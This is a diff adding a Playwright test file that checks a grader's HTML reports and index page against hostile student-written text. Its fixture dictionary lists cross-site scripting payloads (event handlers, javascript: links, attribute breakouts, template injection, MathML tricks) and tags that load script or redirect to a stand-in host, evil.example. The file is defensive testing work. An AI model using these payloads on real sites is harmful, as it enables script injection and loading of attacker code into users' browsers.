@@ -1,0 +1,55 @@
+"""Pages full of what a student may have written to be read by a browser."""
+
+from pathlib import Path
+
+import pytest
+import samples
+from playwright.sync_api import Browser
+from visiting import PHONE, visiting
+
+from grader.report.index import render_index
+from grader.report.page import render_report, report_context
+from grader.report.rows import index_row_of
+
+HOSTILE = {
+    "everything": samples.HOSTILE,
+    "script": "</script></style></title><script>alert(1)</script><script src=//evil.example/x.js>",
+    "handlers": "<img src=x onerror=alert(1)><svg onload=alert(1)><details open ontoggle=alert(1)>",
+    "addresses": "<a href='javascript:alert(1)'>x</a><iframe src='javascript:alert(1)'></iframe>",
+    "attributes": "\" autofocus onfocus=alert(1) x=\"' onmouseover='alert(1)",
+    "loading": "<link rel=stylesheet href='//evil.example/x.css'><base href='//evil.example/'>"
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
+    "<object data='//evil.example/x'></object><video src='//evil.example/v' autoplay></video>",
+    "imitation": "<style>*{display:none}</style><div style='position:fixed;inset:0'>100</div>",
+    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
+    "templates": "{{ 7*7 }}{% include 'page.css' %}{{ config }}${alert(1)}",
+    "wide": "W" * 5_000 + "\u202e" + "宽" * 5_000,
+    "broken": "\ud800\x00\x1b[31m\u2028<!--",
+}
+# What only a student's text could have brought into a page.
+FOREIGN = "iframe, object, embed, form, base, video, img, link[rel=stylesheet], [onerror], [onload]"
+
+
+@pytest.fixture(params=list(HOSTILE.values()), ids=list(HOSTILE))
+def pages(request: pytest.FixtureRequest, tmp_path: Path) -> list[Path]:
+    """The report and the overview of a submission whose every text is hostile."""
+    graded = samples.hostile(request.param)
+    report, index = tmp_path / "report.html", tmp_path / "index.html"
+    report.write_bytes(render_report(report_context(graded, "zh")).encode())
+    rows = [index_row_of(graded, request.param[:200])]
+    index.write_bytes(render_index(rows, "zh").encode())
+    return [report, index]
+
+
+def test_nothing_runs_loads_or_asks(browser: Browser, pages: list[Path]) -> None:
+    for file in pages:
+        with visiting(browser, file, PHONE) as visit:
+            page = visit.page
+            page.locator("summary").evaluate_all("all => all.forEach(one => one.click())")
+            page.mouse.move(200, 200)
+            assert page.locator(FOREIGN).count() == 0
+            assert page.locator("h1").first.is_visible()
+            assert visit.overflow() <= 0
+            assert visit.requests == []
+            assert visit.complaints == []
+            assert page.url == file.as_uri()
